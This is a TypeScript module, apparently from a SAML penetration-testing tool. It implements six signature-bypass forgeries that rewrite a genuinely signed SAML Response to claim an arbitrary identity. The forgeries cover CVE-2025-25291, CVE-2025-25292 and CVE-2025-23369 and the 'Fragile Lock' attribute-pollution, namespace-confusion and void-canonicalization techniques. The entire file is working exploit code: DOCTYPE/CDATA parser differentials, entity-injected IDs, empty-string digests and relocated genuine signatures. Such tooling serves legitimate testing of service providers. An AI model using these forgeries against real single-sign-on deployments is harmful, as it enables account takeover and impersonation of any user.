/**
 * `saml.signed` attacks on SPs that parse one document twice, with two parsers that disagree (ruby-saml's
 * REXML and Nokogiri, libxml2 quirks). Each builds the published template from the genuinely signed
 * Response, and writes `identity` into the Assertion the SP's business logic would read.
 *
 *   doctype-differential   CVE-2025-25291 (SAML Raider CVE_2025_25291.java): a DOCTYPE whose SYSTEM literal opens
 *                          a comment for one parser; the forged document, then the genuine one inside CDATA
 *   namespace-quirk        CVE-2025-25292 (CVE_2025_25292.java): the Assertion's Signature rebuilt with the digest
 *                          of the empty string, `xmlns:example="http://example.com\u0080"` on the Assertion, the
 *                          genuine Signature copied un-namespaced into a new StatusDetail, an ATTLIST in the DOCTYPE
 *   entity-id              CVE-2025-23369 (CVE_2025_23369.java): the Assertion signature copied after the Response
 *                          Issuer with the genuine Assertion in its ds:Object; IDs written through internal entities
 *   attribute-pollution    "The Fragile Lock" (PortSwigger, Black Hat EU 2025): the forged element carries
 *                          `ID="_evil…"` and a prefixed `saml2p:ID` (or `saml2:ID`) with the signed ID; the untouched
 *                          signed element sits in Extensions, where `//*[@ID=…]` finds it
 *   namespace-confusion    "The Fragile Lock": the genuine Signature moved into Extensions under
 *                          `<Parent xmlns=dsig><Child xml:xmlns="#other">`, the forged Assertion carrying a copy whose
 *                          DigestValue is the forged Assertion's own digest
 *   void-canonicalization  "The Fragile Lock", the Golden SAML Response: as namespace-confusion, with a relative
 *                          namespace URI (`xmlns:ns="1"`) on the Response and the fake DigestValue the digest of the
 *                          empty string (what libxml2's failed canonicalization is hashed as)
 *
 * Okta signs with the `ds:` prefix; the moved Signature keeps it, since rewriting a prefix changes the
 * canonical SignedInfo and so breaks the genuine SignatureValue the attacks reuse.
 */
import type { Document, Element } from '@xmldom/xmldom';
import { SAML_ASSERTION_NS, SAML_PROTOCOL_NS, childElements, firstChildNamed, insertAfter, serializeXml } from '../../saml/dom.ts';
import { DSIG_NS, XMLNS_NS, descendants, digestBase64 } from '../../saml/xmldsig.ts';
import { NotApplied, notApplied, type SentResponse, type SignedMutation } from './context.ts';
import {
  afterIssuer,
  claimIdentity,
  createPrefixedAs,
  digestFor,
  digestNameOf,
  extensionsOf,
  parseSent,
  referenceUri,
  removeOwnSignature,
  responseAndAssertion,
  rewrite,
  setDigestValues,
  signedResponse,
  splitDeclaration,
  unsignedCopy,
  withDoctype,
} from './document.ts';
import { readIdentityOnly } from './params.ts';
import { EVIL_ASSERTION_ID, EVIL_RESPONSE_ID } from './xsw.ts';

const XML_NS = 'http://www.w3.org/XML/1998/namespace';

export const doctypeDifferentialMutation: SignedMutation<{ identity: string }> = {
  name: 'doctype-differential',
  point: 'saml.signed',
  summary: "CVE-2025-25291: <!DOCTYPE response SYSTEM 'x\"><!--'>, the forged document, then the genuine one hidden in CDATA/comments.",
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    const document = parseSent(sent);
    if (document instanceof NotApplied) return document;
    const root = document.documentElement!;
    const endTag = `</${root.tagName}>`;
    const genuine = splitDeclaration(sent.xml).body;
    claimIdentity(root, identity);
    const forged = serializeXml(root);
    if (!genuine.endsWith(endTag) || !forged.endsWith(endTag)) return notApplied('the document does not end with its root end tag');
    return {
      ...sent,
      xml: `<!DOCTYPE response SYSTEM 'x"><!--'>\n${forged.slice(0, -endTag.length)}<![CDATA[-->\n${genuine.slice(0, -endTag.length)}<!--]]>-->\n${endTag}`,
    };
  },
};

/** The element a signature's Reference names, by ID anywhere in the document. */
function referencedElement(document: Document, signature: Element): Element | undefined {
  const id = (referenceUri(signature) ?? '').replace(/^#/, '');
  if (!id) return undefined;
  const walk = (element: Element): Element | undefined => {
    if (element.getAttribute('ID') === id) return element;
    for (const child of childElements(element)) {
      const found = walk(child);
      if (found) return found;
    }
    return undefined;
  };
  return walk(document.documentElement!);
}

/** A new element `qualifiedName` in `namespace` holding deep copies of `source`'s children. */
function rebuilt(document: Document, source: Element, namespace: string | null, qualifiedName: string): Element {
  const element = namespace ? document.createElementNS(namespace, qualifiedName) : document.createElement(qualifiedName);
  for (let child = source.firstChild; child; child = child.nextSibling) element.appendChild(child.cloneNode(true));
  return element;
}

/**
 * Runs `forge` on the parsed Response and its first Assertion; it returns the new document text (these
 * attacks add a DOCTYPE or entity references, which the DOM cannot carry).
 */
function forgeText(sent: SentResponse, forge: (document: Document, response: Element, assertion: Element) => string | NotApplied): SentResponse | NotApplied {
  const document = parseSent(sent);
  if (document instanceof NotApplied) return document;
  const found = responseAndAssertion(document);
  if (found instanceof NotApplied) return found;
  const xml = forge(document, found.root, found.assertion);
  return xml instanceof NotApplied ? xml : { ...sent, xml };
}

export const namespaceQuirkMutation: SignedMutation<{ identity: string }> = {
  name: 'namespace-quirk',
  point: 'saml.signed',
  summary: 'CVE-2025-25292: empty-string digest in a rebuilt Assertion Signature, xmlns:example="http://example.com\\u0080", the genuine Signature un-namespaced in StatusDetail, an ATTLIST DOCTYPE.',
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    return forgeText(sent, (document, response, assertion) => {
      let forResponse: Element | undefined;
      let forAssertion: Element | undefined;
      for (const signature of descendants(document, 'Signature')) {
        const target = referencedElement(document, signature);
        if (!target) continue;
        if (target === response) forResponse = signature;
        else if (target.localName === 'Assertion') forAssertion = signature;
        signature.parentNode!.removeChild(signature);
      }
      const source = forAssertion ?? forResponse;
      if (!source) return notApplied('nothing in the document is signed');
      const digestName = digestNameOf(source);
      if (!digestName) return notApplied('the signature uses a digest the mutation does not know');

      const assertionSignature = rebuilt(document, source, source.namespaceURI, source.tagName);
      setDigestValues(assertionSignature, digestBase64('', digestName));
      const issuer = childElements(assertion)[0];
      if (!issuer || issuer.localName !== 'Issuer') return notApplied('the Assertion does not start with its Issuer');
      insertAfter(assertionSignature, issuer);
      assertion.setAttributeNS(XMLNS_NS, 'xmlns:example', 'http://example.com\u0080');

      const status = firstChildNamed(response, 'Status');
      if (!status) return notApplied('the Response has no Status');
      const statusDetail = createPrefixedAs(status, status.namespaceURI, 'StatusDetail');
      status.appendChild(statusDetail);
      if (source.prefix && !response.hasAttribute(`xmlns:${source.prefix}`)) response.setAttributeNS(XMLNS_NS, `xmlns:${source.prefix}`, DSIG_NS);
      statusDetail.appendChild(rebuilt(document, source, null, 'Signature'));
      if (!forAssertion) {
        const id = (referenceUri(source) ?? '').replace(/^#/, '');
        assertion.setAttribute('ID', id);
        response.setAttribute('ID', `${id}ffff`);
      }
      claimIdentity(assertion, identity);
      const doctype = '<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>';
      return withDoctype(serializeXml(document), doctype);
    });
  },
};

export const entityIdMutation: SignedMutation<{ identity: string }> = {
  name: 'entity-id',
  point: 'saml.signed',
  summary: 'CVE-2025-23369: the Assertion Signature copied after the Response Issuer with the genuine Assertion in ds:Object; IDs through internal entities (&idViaEntity;).',
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    return forgeText(sent, (document, response, assertion) => {
      const responseId = response.getAttribute('ID') ?? '';
      const assertionId = assertion.getAttribute('ID') ?? '';
      for (const signature of descendants(document, 'Signature')) {
        if (referenceUri(signature) === `#${responseId}`) signature.parentNode!.removeChild(signature);
      }
      const assertionSignature = descendants(document, 'Signature').find((signature) => referenceUri(signature) === `#${assertionId}`);
      if (!assertionSignature) return notApplied('the Assertion is not signed (entity-id reuses the Assertion signature)');

      const copied = assertionSignature.cloneNode(true) as Element;
      afterIssuer(response, copied);
      const object = createPrefixedAs(assertionSignature, DSIG_NS, 'Object');
      object.setAttribute('xmlns', DSIG_NS);
      copied.appendChild(object);
      const genuine = assertion.cloneNode(true) as Element;
      object.appendChild(genuine);
      genuine.setAttribute('ID', '&BypassIDUniqueness;' + assertionId);

      assertion.setAttribute('ID', `${assertionId}ffff`);
      removeOwnSignature(assertion);
      claimIdentity(assertion, identity);
      response.setAttribute('ID', '&idViaEntity;');

      // The entity references were escaped as attribute text; turn exactly those back into references.
      const xml = serializeXml(document).replace(/&amp;(idViaEntity|BypassIDUniqueness);/g, '&$1;');
      const doctype = `<!DOCTYPE response [\n<!ENTITY idViaEntity "${assertionId}">\n<!ENTITY BypassIDUniqueness "&#x50;">\n]>`;
      return withDoctype(xml, doctype);
    });
  },
};

export const attributePollutionMutation: SignedMutation<{ identity: string }> = {
  name: 'attribute-pollution',
  point: 'saml.signed',
  summary: 'Fragile Lock: forged elements carry ID="_evil…" plus a prefixed saml2p:ID/saml2:ID with the signed ID; the untouched signed element sits in Extensions.',
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    return rewrite(sent, (document) => {
      const found = signedResponse(document);
      if (found instanceof NotApplied) return found;
      const { parts, root, assertion } = found;
      const responsePart = parts.find((part) => part.element === root);
      const assertionPart = parts.find((part) => part.element === assertion);
      const untouched = unsignedCopy(responsePart ? root : assertion);
      extensionsOf(root).appendChild(untouched);
      claimIdentity(assertion, identity);
      // ID first, the prefixed ID after it: libxml2's xmlGetProp returns the first, REXML the prefixed one.
      if (responsePart) {
        root.setAttribute('ID', EVIL_RESPONSE_ID);
        root.setAttributeNS(SAML_PROTOCOL_NS, `${root.prefix ?? 'saml2p'}:ID`, responsePart.id);
      }
      if (assertionPart) {
        assertion.setAttribute('ID', EVIL_ASSERTION_ID);
        assertion.setAttributeNS(SAML_ASSERTION_NS, `${assertion.prefix ?? 'saml2'}:ID`, assertionPart.id);
      }
      return undefined;
    });
  },
};

/** Both Fragile Lock signature moves: the genuine Signature hidden in Extensions, a fake one in the forged Assertion. */
function hideGenuineSignature(fakeDigest: 'forged' | 'empty'): SignedMutation<{ identity: string }>['apply'] {
  return (sent, { identity }) =>
    rewrite(sent, (document) => {
      const found = signedResponse(document);
      if (found instanceof NotApplied) return found;
      const { parts, root, assertion } = found;
      const genuine = parts[0]!.signature;
      genuine.parentNode!.removeChild(genuine);
      removeOwnSignature(assertion);
      claimIdentity(assertion, identity);

      const parent = document.createElementNS(DSIG_NS, 'Parent');
      const child = document.createElementNS(DSIG_NS, 'Child');
      child.setAttributeNS(XML_NS, 'xml:xmlns', '#other');
      parent.appendChild(child);
      child.appendChild(genuine);
      extensionsOf(root).appendChild(parent);

      const fake = genuine.cloneNode(true) as Element;
      for (const reference of descendants(fake, 'Reference')) reference.setAttribute('URI', `#${assertion.getAttribute('ID') ?? ''}`);
      afterIssuer(assertion, fake);
      const digestName = digestNameOf(fake);
      const digest = fakeDigest === 'empty' ? (digestName ? digestBase64('', digestName) : undefined) : digestFor(assertion, fake);
      if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
      setDigestValues(fake, digest);
      if (fakeDigest === 'empty') root.setAttributeNS(XMLNS_NS, 'xmlns:ns', '1');
      return undefined;
    });
}

export const namespaceConfusionMutation: SignedMutation<{ identity: string }> = {
  name: 'namespace-confusion',
  point: 'saml.signed',
  summary: 'Fragile Lock: the genuine Signature hidden in Extensions under <Child xml:xmlns="#other">; the forged Assertion carries a copy with its own digest.',
  readParams: readIdentityOnly,
  apply: hideGenuineSignature('forged'),
};

export const voidCanonicalizationMutation: SignedMutation<{ identity: string }> = {
  name: 'void-canonicalization',
  point: 'saml.signed',
  summary: 'Fragile Lock "Golden SAML Response": namespace-confusion plus xmlns:ns="1" (a relative namespace URI) and the empty string’s digest in the fake Signature.',
  readParams: readIdentityOnly,
  apply: hideGenuineSignature('empty'),
};
